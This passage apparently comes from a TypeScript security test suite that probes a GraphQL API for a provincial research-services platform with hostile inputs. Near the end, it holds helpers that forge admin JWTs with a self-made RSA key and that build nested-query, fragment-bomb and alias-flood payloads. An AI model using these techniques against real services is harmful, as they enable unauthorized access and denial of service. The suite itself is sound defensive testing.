  { input: 'revokeSichuanTalentCard(id)', as: 'sc.admin', write: true, verdicts: REFUSED, request: (v) => ({ query: 'mutation($id: ID!) { revokeSichuanTalentCard(id: $id, reason: "Reported lost") { id } }', variables: { id: v } }) },
  {
    input: 'revokeSichuanTalentCard(reason)',
    as: 'sc.admin',
    write: true,
    verdicts: STORED,
    request: async (v) => ({ query: 'mutation($id: ID!, $r: String!) { result: revokeSichuanTalentCard(id: $id, reason: $r) { id revokedReason } }', variables: { id: (await issueCard('sichuan')).id, r: v } }),
    stored: async (data) => [data.result.revokedReason, await column('sichuan', 'talent_cards', 'revoked_reason', data.result.id)],
  },
];

const INSTRUMENT_TEXT_FIELDS = ['name', 'nameZh', 'model', 'manufacturer', 'institution', 'location', 'description'] as const;
const SNAKE: Record<string, string> = { nameZh: 'name_zh', howToApply: 'how_to_apply' };

const REGISTRY_INPUTS: StringInput[] = [
  ...INSTRUMENT_TEXT_FIELDS.map((field): StringInput => ({
    input: `createSichuanInstrument(input.${field})`,
    as: 'sc.admin',
    write: true,
    verdicts: STORED,
    request: (v, m) => ({ query: CREATE_INSTRUMENT, variables: { input: { ...validInstrument(m), [field]: v } } }),
    stored: async (data) => [data.result[field], await column('sichuan', 'instruments', SNAKE[field] ?? field, data.result.id)],
  })),
  ...(['assetCode', 'category', 'labId'] as const).map((field): StringInput => ({
    input: `createSichuanInstrument(input.${field})`,
    as: 'sc.admin',
    write: true,
    verdicts: REFUSED,
    request: (v, m) => ({ query: CREATE_INSTRUMENT, variables: { input: { ...validInstrument(m), [field]: v } } }),
  })),
  {
    input: 'updateSichuanInstrument(id)',
    as: 'sc.admin',
    write: true,
    verdicts: REFUSED,
    request: (v, m) => ({ query: 'mutation($id: ID!, $n: String) { updateSichuanInstrument(id: $id, input: { name: $n }) { id } }', variables: { id: v, n: `Renamed ${m}` } }),
  },
  {
    input: 'updateSichuanInstrument(input.name)',
    as: 'sc.admin',
    write: true,
    verdicts: STORED,
    request: async (v) => ({ query: 'mutation($id: ID!, $n: String) { result: updateSichuanInstrument(id: $id, input: { name: $n }) { id name } }', variables: { id: await createInstrument('sichuan'), n: v } }),
    stored: async (data) => [data.result.name, await column('sichuan', 'instruments', 'name', data.result.id)],
  },
  { input: 'retireSichuanInstrument(id)', as: 'sc.admin', write: true, verdicts: REFUSED, request: (v) => ({ query: 'mutation($id: ID!) { retireSichuanInstrument(id: $id, reason: "Replaced") { id } }', variables: { id: v } }) },
  {
    input: 'retireSichuanInstrument(reason)',
    as: 'sc.admin',
    write: true,
    verdicts: STORED,
    request: async (v) => ({ query: 'mutation($id: ID!, $r: String!) { result: retireSichuanInstrument(id: $id, reason: $r) { id } }', variables: { id: await createInstrument('sichuan'), r: v } }),
    stored: async (data) => {
      const reason = await column('sichuan', 'instruments', 'retired_reason', data.result.id);
      return [reason, reason];
    },
  },
  ...(['name', 'nameZh', 'institution', 'city', 'description'] as const).map((field): StringInput => ({
    input: `createSichuanLab(input.${field})`,
    as: 'sc.admin',
    write: true,
    verdicts: STORED,
    request: (v, m) => ({ query: CREATE_LAB, variables: { input: { ...validLab(m), [field]: v } } }),
    stored: async (data) => [data.result[field], await column('sichuan', 'labs', SNAKE[field] ?? field, data.result.id)],
  })),
  {
    input: 'createSichuanLab(input.partnerInstitutions)',
    as: 'sc.admin',
    write: true,
    verdicts: STORED,
    request: (v, m) => ({ query: CREATE_LAB, variables: { input: { ...validLab(m), partnerProvince: 'CHONGQING', partnerInstitutions: [v] } } }),
    stored: async (data) => [data.result.partnerInstitutions[0], (await column('sichuan', 'labs', 'partner_institutions', data.result.id))[0]],
  },
  {
    input: 'createSichuanLab(input.partnerInstrumentIds)',
    as: 'sc.admin',
    write: true,
    verdicts: REFUSED,
    request: (v, m) => ({ query: CREATE_LAB, variables: { input: { ...validLab(m), partnerProvince: 'CHONGQING', partnerInstrumentIds: [v] } } }),
  },
  {
    input: 'updateSichuanLab(id)',
    as: 'sc.admin',
    write: true,
    verdicts: REFUSED,
    request: (v, m) => ({ query: 'mutation($id: ID!, $n: String) { updateSichuanLab(id: $id, input: { name: $n }) { id } }', variables: { id: v, n: `Renamed ${m}` } }),
  },
  {
    input: 'updateSichuanLab(input.name)',
    as: 'sc.admin',
    write: true,
    verdicts: STORED,
    request: async (v) => ({ query: 'mutation($id: ID!, $n: String) { result: updateSichuanLab(id: $id, input: { name: $n }) { id name } }', variables: { id: await createLab('sichuan'), n: v } }),
    stored: async (data) => [data.result.name, await column('sichuan', 'labs', 'name', data.result.id)],
  },
  { input: 'retireSichuanLab(id)', as: 'sc.admin', write: true, verdicts: REFUSED, request: (v) => ({ query: 'mutation($id: ID!) { retireSichuanLab(id: $id, reason: "Closed") { id } }', variables: { id: v } }) },
  {
    input: 'retireSichuanLab(reason)',
    as: 'sc.admin',
    write: true,
    verdicts: STORED,
    request: async (v) => ({ query: 'mutation($id: ID!, $r: String!) { result: retireSichuanLab(id: $id, reason: $r) { id } }', variables: { id: await createLab('sichuan'), r: v } }),
    stored: async (data) => {
      const reason = await column('sichuan', 'labs', 'retired_reason', data.result.id);
      return [reason, reason];
    },
  },
];

// A seeded catalogue item, rewritten with hostile values.
const catalogueItem = DEMO_SEEDS.sichuan.recognitionCatalog.at(-1)!;
const originalItem = {
  code: catalogueItem.code, name: catalogueItem.name, nameZh: catalogueItem.nameZh, provider: catalogueItem.provider,
  minimumTier: catalogueItem.minimumTier, howToApply: catalogueItem.howToApply,
};
const SET_ITEM = 'mutation($input: RecognitionItemInput!) { result: setSichuanRecognitionItem(input: $input) { code name nameZh provider howToApply } }';
const itemColumn = async (name: string) => (await sql('sichuan', `SELECT ${name} AS v FROM recognition_catalog WHERE code = $1`, [catalogueItem.code]))[0]?.['v'];

const CATALOGUE_INPUTS: StringInput[] = [
  { input: 'setSichuanRecognitionItem(input.code)', as: 'sc.admin', write: true, catalogue: true, verdicts: REFUSED, request: (v) => ({ query: SET_ITEM, variables: { input: { ...originalItem, code: v } } }) },
  ...(['name', 'nameZh', 'provider', 'howToApply'] as const).map((field): StringInput => ({
    input: `setSichuanRecognitionItem(input.${field})`,
    as: 'sc.admin',
    write: true,
    catalogue: true,
    verdicts: STORED,
    request: (v) => ({ query: SET_ITEM, variables: { input: { ...originalItem, [field]: v } } }),
    stored: async (data) => [
      data.result.find((item: { code: string }) => item.code === catalogueItem.code)[field],
      await itemColumn(SNAKE[field] ?? field),
    ],
  })),
  {
    input: 'removeSichuanRecognitionItem(code)',
    as: 'sc.admin',
    write: true,
    catalogue: true,
    verdicts: ['NOT_FOUND', 'NOT_FOUND', B],
    request: (v) => ({ query: 'mutation($c: String!) { removeSichuanRecognitionItem(code: $c) { code } }', variables: { c: v } }),
  },
];

const NOTHING: readonly [Verdict, Verdict, Verdict] = ['nothing', 'nothing', B];
/** Webhook subscriptions and calendar feeds are named by bare UUIDs: any other text names none of them. */
const UNKNOWN_ID: readonly [Verdict, Verdict, Verdict] = ['NOT_FOUND', 'NOT_FOUND', 'NOT_FOUND'];
/** The note of a service request's last step, as the database holds it. */
const lastRequestNote = async (requestId: string) =>
  (await sql('sichuan', 'SELECT note AS v FROM service_request_events WHERE request_id = $1 ORDER BY id DESC LIMIT 1', [localIdOf(requestId)]))[0]?.['v'];

const OFFERING_INPUTS: StringInput[] = [
  ...(['instrumentId', 'labId'] as const).map((field): StringInput => ({
    input: `createSichuanOffering(input.${field})`,
    as: 'sc.admin',
    write: true,
    verdicts: REFUSED,
    request: (v, m) => ({ query: CREATE_OFFERING, variables: { input: { ...validOffering(m), instrumentId: null, [field]: v } } }),
  })),
  ...(['name', 'nameZh', 'requirements'] as const).map((field): StringInput => ({
    input: `createSichuanOffering(input.${field})`,
    as: 'sc.admin',
    write: true,
    verdicts: STORED,
    request: (v, m) => ({ query: CREATE_OFFERING, variables: { input: { ...validOffering(m), [field]: v } } }),
    stored: async (data) => [data.result[field], await column('sichuan', 'offerings', SNAKE[field] ?? field, data.result.id)],
  })),
  {
    input: 'createSichuanOffering(input.sampleForm.label)',
    as: 'sc.admin',
    write: true,
    verdicts: STORED,
    request: (v, m) => ({ query: CREATE_OFFERING, variables: { input: { ...validOffering(m), sampleForm: [{ name: 'organism', label: v, type: 'TEXT' }] } } }),
    stored: async (data) => [data.result.sampleForm[0].label, (await column('sichuan', 'offerings', 'sample_form', data.result.id))[0].label],
  },
  { input: 'createSichuanOffering(input.sampleForm.name)', as: 'sc.admin', write: true, verdicts: REFUSED, request: (v, m) => ({ query: CREATE_OFFERING, variables: { input: { ...validOffering(m), sampleForm: [{ name: v, label: 'Organism', type: 'TEXT' }] } } }) },
  { input: 'createSichuanOffering(input.prices.band)', as: 'sc.admin', write: true, verdicts: REFUSED, request: (v, m) => ({ query: CREATE_OFFERING, variables: { input: { ...validOffering(m), kind: 'CONSULTATION', sampleForm: [], prices: [{ category: 'ENTERPRISE', band: v, fromHour: 9, toHour: 12, amountFen: 1 }] } } }) },
  { input: 'updateSichuanOffering(id)', as: 'sc.admin', write: true, verdicts: REFUSED, request: (v, m) => ({ query: 'mutation($id: ID!, $n: String) { updateSichuanOffering(id: $id, input: { name: $n }) { id } }', variables: { id: v, n: `Renamed ${m}` } }) },
  {
    input: 'updateSichuanOffering(input.name)',
    as: 'sc.admin',
    write: true,
    verdicts: STORED,
    request: async (v, m) => ({
      query: 'mutation($id: ID!, $n: String) { result: updateSichuanOffering(id: $id, input: { name: $n }) { id name } }',
      variables: { id: (await must(CREATE_OFFERING, fx.tokens['sc.admin'], { input: validOffering(m) })).result.id, n: v },
    }),
    stored: async (data) => [data.result.name, await column('sichuan', 'offerings', 'name', data.result.id)],
  },
  { input: 'setSichuanOfferingPrices(id)', as: 'sc.admin', write: true, verdicts: REFUSED, request: (v) => ({ query: 'mutation($id: ID!, $p: [PriceInput!]!) { setSichuanOfferingPrices(id: $id, prices: $p) { id } }', variables: { id: v, p: SC_STANDARD } }) },
  { input: 'sichuan.offering(id)', verdicts: REFUSED, request: (v) => ({ query: 'query($v: ID!) { sichuan { offering(id: $v) { id } } }', variables: { v } }) },
  { input: 'sichuan.offerings(instrumentId)', verdicts: REFUSED, request: (v) => ({ query: 'query($v: ID) { sichuan { offerings(instrumentId: $v) { id } } }', variables: { v } }) },
  { input: 'sichuan.offerings(labId)', verdicts: REFUSED, request: (v) => ({ query: 'query($v: ID) { sichuan { offerings(labId: $v) { id } } }', variables: { v } }) },
  {
    input: 'SichuanOffering.priceForMe(at)',
    targets: BOTH,
    verdicts: REFUSED,
    request: (v) => ({ query: 'query($id: ID!, $at: DateTime) { sichuan { offering(id: $id) { priceForMe(at: $at) { amountFen } } } }', variables: { id: sx.scOffering, at: v } }),
    status: [200, 400],
  },
];

const SERVICE_REQUEST_INPUTS: StringInput[] = [
  { input: 'submitSichuanServiceRequest(input.offeringId)', as: 'chen.jing', write: true, verdicts: REFUSED, request: (v, m) => ({ query: SUBMIT, variables: { input: { ...validRequest(m), offeringId: v } } }) },
  {
    input: 'submitSichuanServiceRequest(input.description)',
    as: 'chen.jing',
    write: true,
    verdicts: STORED,
    request: (v, m) => ({ query: SUBMIT, variables: { input: { ...validRequest(m), description: v } } }),
    stored: async (data) => [data.result.description, await column('sichuan', 'service_requests', 'description', data.result.id)],
  },
  {
    input: 'submitSichuanServiceRequest(input.formValues.value) of a TEXT field',
    as: 'chen.jing',
    write: true,
    verdicts: STORED,
    request: (v, m) => ({ query: SUBMIT, variables: { input: { ...validRequest(m), formValues: [{ name: 'organism', value: v }, { name: 'concentration', value: '1' }] } } }),
    stored: async (data) => [
      data.result.formValues.find((value: { name: string }) => value.name === 'organism').value,
      (await column('sichuan', 'service_requests', 'form_values', data.result.id))['organism'],
    ],
  },
  ...(['concentration', 'collectedOn'] as const).map((field): StringInput => ({
    input: `submitSichuanServiceRequest(input.formValues.value) of a ${field === 'concentration' ? 'NUMBER' : 'DATE'} field`,
    as: 'chen.jing',
    write: true,
    verdicts: REFUSED,
    request: (v, m) => ({ query: SUBMIT, variables: { input: { ...validRequest(m), formValues: [...validRequest(m).formValues.filter((value) => value.name !== field), { name: field, value: v }] } } }),
  })),
  { input: 'submitSichuanServiceRequest(input.formValues.name)', as: 'chen.jing', write: true, verdicts: REFUSED, request: (v, m) => ({ query: SUBMIT, variables: { input: { ...validRequest(m), formValues: [...validRequest(m).formValues, { name: v, value: 'x' }] } } }) },
  { input: 'submitSichuanServiceRequest(input.idempotencyKey)', as: 'chen.jing', write: true, verdicts: REFUSED, request: (v, m) => ({ query: SUBMIT, variables: { input: { ...validRequest(m), idempotencyKey: v } } }) },
  {
    input: 'submitSichuanServiceRequest(input.neededBy)',
    as: 'chen.jing',
    targets: BOTH,
    write: true,
    verdicts: REFUSED,
    request: (v, m) => ({ query: SUBMIT, variables: { input: { ...validRequest(m), neededBy: v } } }),
    status: [200, 400],
  },
  { input: 'quoteSichuanServiceRequest(id)', as: 'sc.admin', write: true, verdicts: REFUSED, request: (v) => ({ query: QUOTE, variables: { id: v, a: 1_000, u: daysFromNow(20) } }) },
  {
    input: 'quoteSichuanServiceRequest(note)',
    as: 'sc.admin',
    write: true,
    verdicts: STORED,
    request: async (v) => ({ query: QUOTE.replace('{ id }', '{ id history { note } }'), variables: { id: await requestAt('SUBMITTED'), a: 1_000, u: daysFromNow(20), n: v } }),
    stored: async (data) => [data.result.history.at(-1).note, await lastRequestNote(data.result.id)],
  },
  ...([
    ['acceptSichuanServiceQuote', 'note', 'QUOTED', 'chen.jing'],
    ['declineSichuanServiceQuote', 'reason', 'QUOTED', 'chen.jing'],
    ['cancelSichuanServiceRequest', 'reason', 'SUBMITTED', 'chen.jing'],
    ['rejectSichuanServiceRequest', 'reason', 'SUBMITTED', 'sc.admin'],
    ['receiveSichuanSamples', 'note', 'ACCEPTED', 'sc.admin'],
    ['startSichuanServiceRequest', 'note', 'IN_PROGRESS', 'sc.admin'],
  ] as const).flatMap(([mutation, argument, stage, who]): StringInput[] => [
    { input: `${mutation}(id)`, as: who, write: true, verdicts: REFUSED, request: (v) => ({ query: `mutation($id: ID!) { ${mutation}(id: $id, ${argument}: "Because") { id } }`, variables: { id: v } }) },
    {
      input: `${mutation}(${argument})`,
      as: who,
      write: true,
      verdicts: STORED,
      request: async (v) => ({
        // start needs a request whose samples arrived: IN_PROGRESS is reached by starting, so stop one step short.
        query: `mutation($id: ID!, $n: String!) { result: ${mutation}(id: $id, ${argument}: $n) { id history { note } } }`,
        variables: { id: mutation === 'startSichuanServiceRequest' ? await samplesReceived() : await requestAt(stage), n: v },
      }),
      stored: async (data) => [data.result.history.at(-1).note, await lastRequestNote(data.result.id)],
    },
  ]),
  { input: 'issueSichuanServiceReport(id)', as: 'sc.admin', write: true, verdicts: REFUSED, request: (v, m) => ({ query: ISSUE_REPORT, variables: { id: v, r: validReport(m) } }) },
  {
    input: 'issueSichuanServiceReport(report.fileName)',
    as: 'sc.admin',
    write: true,
    verdicts: REFUSED,
    request: async (v) => ({ query: ISSUE_REPORT, variables: { id: await requestAt('IN_PROGRESS'), r: { ...validReport('x'), fileName: v } } }),
  },
  { input: 'issueSichuanServiceReport(report.contentType)', as: 'sc.admin', write: true, verdicts: REFUSED, request: async (v) => ({ query: ISSUE_REPORT, variables: { id: await requestAt('IN_PROGRESS'), r: { ...validReport('x'), contentType: v } } }) },
  { input: 'issueSichuanServiceReport(report.contentBase64)', as: 'sc.admin', write: true, verdicts: REFUSED, request: async (v) => ({ query: ISSUE_REPORT, variables: { id: await requestAt('IN_PROGRESS'), r: { ...validReport('x'), contentBase64: v } } }) },
  { input: 'sichuan.serviceRequest(id)', as: 'chen.jing', verdicts: REFUSED, request: (v) => ({ query: 'query($v: ID!) { sichuan { serviceRequest(id: $v) { id } } }', variables: { v } }) },
  { input: 'sichuan.serviceRequests(after)', as: 'sc.admin', verdicts: REFUSED, request: (v) => ({ query: 'query($v: String) { sichuan { serviceRequests(after: $v) { totalCount } } }', variables: { v } }) },
];

/** A request of chen.jing's whose samples arrived, ready to start. */
async function samplesReceived(): Promise<string> {
  const id = await requestAt('ACCEPTED');
  await must('mutation($id: ID!) { receiveSichuanSamples(id: $id) { id } }', fx.tokens['sc.admin'], { id });
  return id;
}

const STATEMENT = 'query($p: ID, $from: DateTime!, $to: DateTime!) { sichuan { statement(payerId: $p, from: $from, to: $to) { totalFen } } }';
const CREDIT = 'mutation($id: ID!, $a: Int!, $r: String!) { result: creditSichuanCharge(chargeId: $id, amountFen: $a, reason: $r) { id lines { kind reason } } }';

const CHARGE_INPUTS: StringInput[] = [
  { input: 'sichuan.charge(id)', as: 'chen.jing', verdicts: REFUSED, request: (v) => ({ query: 'query($v: ID!) { sichuan { charge(id: $v) { id } } }', variables: { v } }) },
  { input: 'sichuan.statement(payerId)', as: 'sc.admin', verdicts: REFUSED, request: (v) => ({ query: STATEMENT, variables: { p: v, from: daysFromNow(-30), to: daysFromNow(1) } }) },
  { input: 'sichuan.statement(from)', as: 'chen.jing', targets: BOTH, verdicts: REFUSED, request: (v) => ({ query: STATEMENT, variables: { from: v, to: daysFromNow(1) } }), status: [200, 400] },
  { input: 'sichuan.chargesCsv(to)', as: 'sc.admin', targets: BOTH, verdicts: REFUSED, request: (v) => ({ query: 'query($from: DateTime!, $to: DateTime!) { sichuan { chargesCsv(from: $from, to: $to) } }', variables: { from: daysFromNow(-30), to: v } }), status: [200, 400] },
  { input: 'creditSichuanCharge(chargeId)', as: 'sc.admin', write: true, verdicts: REFUSED, request: (v) => ({ query: CREDIT, variables: { id: v, a: 100, r: 'Goodwill' } }) },
  {
    input: 'creditSichuanCharge(reason)',
    as: 'sc.admin',
    write: true,
    verdicts: STORED,
    request: async (v) => ({ query: CREDIT, variables: { id: await chargeFor(sql, 'sichuan', 10_000), a: 100, r: v } }),
    stored: async (data) => [
      data.result.lines.at(-1).reason,
      (await sql('sichuan', "SELECT reason AS v FROM charge_lines WHERE charge_id = $1 AND kind = 'CREDIT'", [localIdOf(data.result.id)]))[0]?.['v'],
    ],
  },
];

const ISSUE_VOUCHER = 'mutation($input: IssueVoucherInput!) { result: issueSichuanVoucher(input: $input) { id holderName acceptedIn } }';
const validVoucher = (marker: string) => ({
  holderUserId: seededUserId('chen.jing'), holderName: `Holder ${marker}`, amountFen: 100_000, validFrom: daysFromNow(-1), validUntil: daysFromNow(30),
  acceptedIn: ['SICHUAN', 'CHONGQING'], maxSharePercent: 50,
});
const RESERVE = `mutation($v: ID!, $a: Int!, $c: Int!, $s: Province!, $ref: String!, $k: ID!, $e: Int) {
  result: reserveChongqingVoucher(voucherId: $v, amountFen: $a, chargeAmountFen: $c, servingProvince: $s, chargeRef: $ref, holdKey: $k, expiresInSeconds: $e) { id chargeRef } }`;
const validReserve = () => ({ v: sx.cqVoucher, a: 100, c: 1_000, s: 'SICHUAN', ref: 'CHG-BAD-INPUT', k: randomUUID() });
const HOLD_STEP = (step: 'capture' | 'release') =>
  `mutation($v: ID!, $k: ID!, $s: Province!) { result: ${step}ChongqingVoucherHold(voucherId: $v, holdKey: $k, servingProvince: $s) { id status } }`;
const PAY = `mutation($ref: String!, $c: Int!, $v: ID!, $a: Int!, $k: String!) {
  result: paySichuanChargeWithVoucher(chargeRef: $ref, chargeAmountFen: $c, voucherId: $v, amountFen: $a, idempotencyKey: $k) { id state } }`;
const validPay = (marker: string) => ({ ref: sx.scCharge, c: 40_000, v: sx.cqVoucher, a: 100, k: `key-${marker}` });
const SETTLEMENT = 'query($from: DateTime!, $to: DateTime!) { sichuan { voucherSettlement(from: $from, to: $to) { netFromPartnerTotalFen } } }';

const VOUCHER_INPUTS: StringInput[] = [
  { input: 'issueSichuanVoucher(input.holderUserId)', as: 'sc.admin', write: true, verdicts: REFUSED, request: (v, m) => ({ query: ISSUE_VOUCHER, variables: { input: { ...validVoucher(m), holderUserId: v } } }) },
  {
    input: 'issueSichuanVoucher(input.holderName)',
    as: 'sc.admin',
    write: true,
    verdicts: STORED,
    request: (v, m) => ({ query: ISSUE_VOUCHER, variables: { input: { ...validVoucher(m), holderName: v } } }),
    stored: async (data) => [data.result.holderName, await column('sichuan', 'vouchers', 'holder_name', data.result.id)],
  },
  {
    input: 'issueSichuanVoucher(input.validUntil)',
    as: 'sc.admin',
    targets: BOTH,
    write: true,
    verdicts: REFUSED,
    request: (v, m) => ({ query: ISSUE_VOUCHER, variables: { input: { ...validVoucher(m), validUntil: v } } }),
    status: [200, 400],
  },
  { input: 'reserveChongqingVoucher(voucherId)', as: 'chen.jing', write: true, verdicts: REFUSED, request: (v) => ({ query: RESERVE, variables: { ...validReserve(), v } }) },
  { input: 'reserveChongqingVoucher(holdKey)', as: 'chen.jing', write: true, verdicts: REFUSED, request: (v) => ({ query: RESERVE, variables: { ...validReserve(), k: v } }) },
  {
    input: 'reserveChongqingVoucher(chargeRef)',
    as: 'chen.jing',
    write: true,
    verdicts: STORED,
    request: (v) => ({ query: RESERVE, variables: { ...validReserve(), ref: v } }),
    stored: async (data) => [data.result.chargeRef, (await sql('chongqing', 'SELECT charge_ref AS v FROM voucher_holds WHERE id = $1', [data.result.id]))[0]?.['v']],
  },
  ...(['capture', 'release'] as const).flatMap((step): StringInput[] => [
    { input: `${step}ChongqingVoucherHold(voucherId)`, write: true, verdicts: REFUSED, request: (v) => ({ query: HOLD_STEP(step), variables: { v, k: randomUUID(), s: 'SICHUAN' } }) },
    { input: `${step}ChongqingVoucherHold(holdKey)`, write: true, verdicts: REFUSED, request: (v) => ({ query: HOLD_STEP(step), variables: { v: sx.cqVoucher, k: v, s: 'SICHUAN' } }) },
  ]),
  ...(['ref', 'v', 'k'] as const).map((argument): StringInput => ({
    input: `paySichuanChargeWithVoucher(${{ ref: 'chargeRef', v: 'voucherId', k: 'idempotencyKey' }[argument]})`,
    as: 'chen.jing',
    write: true,
    verdicts: REFUSED,
    request: (v, m) => ({ query: PAY, variables: { ...validPay(m), [argument]: v } }),
  })),
  { input: 'chongqing.voucher(id)', as: 'chen.jing', verdicts: REFUSED, request: (v) => ({ query: 'query($v: ID!) { chongqing { voucher(id: $v) { id } } }', variables: { v } }) },
  {
    input: 'chongqing.voucherHold(holdKey)',
    verdicts: REFUSED,
    request: (v) => ({ query: 'query($v: ID!, $k: ID!) { chongqing { voucherHold(voucherId: $v, holdKey: $k, servingProvince: SICHUAN) { id } } }', variables: { v: sx.cqVoucher, k: v } }),
  },
  { input: 'sichuan.vouchers(after)', as: 'sc.admin', verdicts: REFUSED, request: (v) => ({ query: 'query($v: String) { sichuan { vouchers(after: $v) { totalCount } } }', variables: { v } }) },
  { input: 'sichuan.voucherHolds(after)', as: 'sc.admin', verdicts: REFUSED, request: (v) => ({ query: 'query($v: String) { sichuan { voucherHolds(after: $v) { totalCount } } }', variables: { v } }) },
  { input: 'sichuan.voucherRedemptions(after)', as: 'sc.admin', verdicts: REFUSED, request: (v) => ({ query: 'query($v: String) { sichuan { voucherRedemptions(after: $v) { totalCount } } }', variables: { v } }) },
  { input: 'sichuan.voucherSettlement(from)', as: 'sc.admin', targets: BOTH, verdicts: REFUSED, request: (v) => ({ query: SETTLEMENT, variables: { from: v, to: daysFromNow(1) } }), status: [200, 400] },
];

const WEBHOOK_INPUTS: StringInput[] = [
  ...(['clientId', 'url'] as const).map((field): StringInput => ({
    input: `createSichuanWebhookSubscription(input.${field})`,
    as: 'sc.admin',
    write: true,
    verdicts: REFUSED,
    request: (v, m) => ({ query: SUBSCRIBE, variables: { input: { ...validSubscription(m), [field]: v } } }),
  })),
  { input: 'createSichuanWebhookSubscription(input.eventTypes)', as: 'sc.admin', write: true, verdicts: REFUSED, request: (v, m) => ({ query: SUBSCRIBE, variables: { input: { ...validSubscription(m), eventTypes: [v] } } }) },
  {
    input: 'createSichuanWebhookSubscription(input.description)',
    as: 'sc.admin',
    write: true,
    verdicts: STORED,
    request: (v, m) => ({ query: SUBSCRIBE, variables: { input: { ...validSubscription(m), description: v } } }),
    // Subscriptions are named by a bare UUID, not a global id.
    stored: async (data) => [
      data.result.subscription.description,
      (await sql('sichuan', 'SELECT description AS v FROM webhook_subscriptions WHERE id = $1', [data.result.subscription.id]))[0]?.['v'],
    ],
  },
  { input: 'updateSichuanWebhookSubscription(id)', as: 'sc.admin', write: true, verdicts: UNKNOWN_ID, request: (v) => ({ query: 'mutation($id: ID!) { updateSichuanWebhookSubscription(id: $id, input: { active: false }) { id } }', variables: { id: v } }) },
  { input: 'updateSichuanWebhookSubscription(input.url)', as: 'sc.admin', write: true, verdicts: REFUSED, request: (v) => ({ query: 'mutation($id: ID!, $u: String) { updateSichuanWebhookSubscription(id: $id, input: { url: $u }) { id } }', variables: { id: sx.scSubscription, u: v } }) },
  { input: 'deleteSichuanWebhookSubscription(id)', as: 'sc.admin', write: true, verdicts: UNKNOWN_ID, request: (v) => ({ query: 'mutation($id: ID!) { deleteSichuanWebhookSubscription(id: $id) }', variables: { id: v } }) },
  { input: 'rotateSichuanWebhookSecret(id)', as: 'sc.admin', write: true, verdicts: UNKNOWN_ID, request: (v) => ({ query: 'mutation($id: ID!) { rotateSichuanWebhookSecret(id: $id) { secret } }', variables: { id: v } }) },
  {
    input: 'replaySichuanWebhookDeliveries(from)',
    as: 'sc.admin',
    targets: BOTH,
    write: true,
    verdicts: REFUSED,
    request: (v) => ({ query: 'mutation($id: ID!, $from: DateTime!) { replaySichuanWebhookDeliveries(id: $id, from: $from) }', variables: { id: sx.scSubscription, from: v } }),
    status: [200, 400],
  },
  {
    input: 'sichuan.webhookSubscriptions(clientId)',
    as: 'sc.admin',
    verdicts: NOTHING,
    request: (v) => ({ query: 'query($v: String) { sichuan { webhookSubscriptions(clientId: $v) { id } } }', variables: { v } }),
    nothing: (data) => expect(data.sichuan.webhookSubscriptions).toEqual([]),
  },
  { input: 'sichuan.events(after)', as: 'sc.admin', verdicts: REFUSED, request: (v) => ({ query: 'query($v: String) { sichuan { events(after: $v) { edges { cursor } } } }', variables: { v } }) },
  { input: 'sichuan.events(types)', as: 'sc.admin', verdicts: REFUSED, request: (v) => ({ query: 'query($v: String!) { sichuan { events(types: [$v]) { edges { cursor } } } }', variables: { v } }) },
  {
    input: 'SichuanWebhookSubscription.deliveries(after)',
    as: 'sc.admin',
    verdicts: REFUSED,
    request: (v) => ({ query: 'query($v: String) { sichuan { webhookSubscriptions { deliveries(after: $v) { edges { cursor } } } } }', variables: { v } }),
  },
];

const SIGN_IN_ELSEWHERE_INPUTS: StringInput[] = [
  ...(['beginExternalSignIn', 'beginExternalIdentityLink'] as const).flatMap((mutation): StringInput[] => [
    {
      input: `${mutation}(provider)`,
      as: mutation === 'beginExternalIdentityLink' ? 'li.wei' : undefined,
      targets: ['gateway', 'platform'],
      verdicts: REFUSED,
      request: (v) => ({ query: `mutation($p: String!) { ${mutation}(provider: $p, redirectUri: "http://127.0.0.1:5173/signed-in") { state } }`, variables: { p: v } }),
    },
    {
      input: `${mutation}(redirectUri)`,
      as: mutation === 'beginExternalIdentityLink' ? 'li.wei' : undefined,
      verdicts: REFUSED,
      request: (v) => ({ query: `mutation($r: String!) { ${mutation}(provider: "demo", redirectUri: $r) { state } }`, variables: { r: v } }),
    },
  ]),
  ...(['completeExternalSignIn', 'completeExternalIdentityLink'] as const).flatMap((mutation): StringInput[] => [
    {
      input: `${mutation}(callbackUrl)`,
      as: mutation === 'completeExternalIdentityLink' ? 'li.wei' : undefined,
      targets: ['gateway', 'platform'],
      verdicts: REFUSED,
      request: (v) => ({ query: `mutation($c: String!) { ${mutation}(provider: "demo", callbackUrl: $c) { __typename } }`, variables: { c: v } }),
    },
    {
      input: `${mutation}(callbackUrl) as a URL carrying it`,
      as: mutation === 'completeExternalIdentityLink' ? 'li.wei' : undefined,
      verdicts: REFUSED,
      request: (v) => ({ query: `mutation($c: String!) { ${mutation}(provider: "demo", callbackUrl: $c) { __typename } }`, variables: { c: `http://127.0.0.1:5173/signed-in?code=${encodeURIComponent(v)}&state=${encodeURIComponent(v)}` } }),
    },
  ]),
  { input: 'unlinkExternalIdentity(provider)', as: 'li.wei', verdicts: REFUSED, request: (v) => ({ query: 'mutation($p: String!) { unlinkExternalIdentity(provider: $p) }', variables: { p: v } }) },
  { input: 'revokeCalendarFeed(id)', as: 'li.wei', verdicts: UNKNOWN_ID, request: (v) => ({ query: 'mutation($id: ID!) { revokeCalendarFeed(id: $id) { id } }', variables: { id: v } }) },
];

// ---------- the cases ----------

// Keys of our own, to sign tokens the platform never issued.
const foreignKey = generateKeyPairSync('rsa', { modulusLength: 2048 });
const claims = (extra: Record<string, unknown> = {}) => ({
  sub: randomUUID(), roles: ['province_admin'], province: 'sichuan', iss: 'https://id.shuangcheng.example', aud: 'shuangcheng-api', ...extra,
});
const base64url = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
const bearer = (token: string) => ({ authorization: `Bearer ${token}` });

async function platformKid(): Promise<string> {
  const response = await fetch(new URL('/.well-known/jwks.json', testSystem().subgraphUrls.platform));
  const { keys } = (await response.json()) as { keys: { kid: string }[] };
  return keys[0]!.kid;
}

/** The same document with depth `levels` (each level a lab and its instruments). */
function deepQuery(levels: number): string {
  let inner = 'name';
  for (let i = 0; i < levels; i++) inner = `lab { instruments { ... on SichuanInstrument { ${inner} } } }`;
  return `{ sichuan { instruments(first: 1) { edges { node { ${inner} } } } } }`;
}

/** `levels` fragments, each spreading the next twice: 2^levels fields once inlined. */
function fragmentBomb(levels: number): string {
  let fragments = '';
  for (let i = 0; i < levels; i++) fragments += `fragment F${i} on Query { ...F${i + 1} ...F${i + 1} } `;
  return `{ ...F0 } ${fragments} fragment F${levels} on Query { __typename }`;
}

const aliases = (count: number, field = '__typename') => `{ ${Array.from({ length: count }, (_, i) => `a${i}: ${field}`).join(' ')} }`;

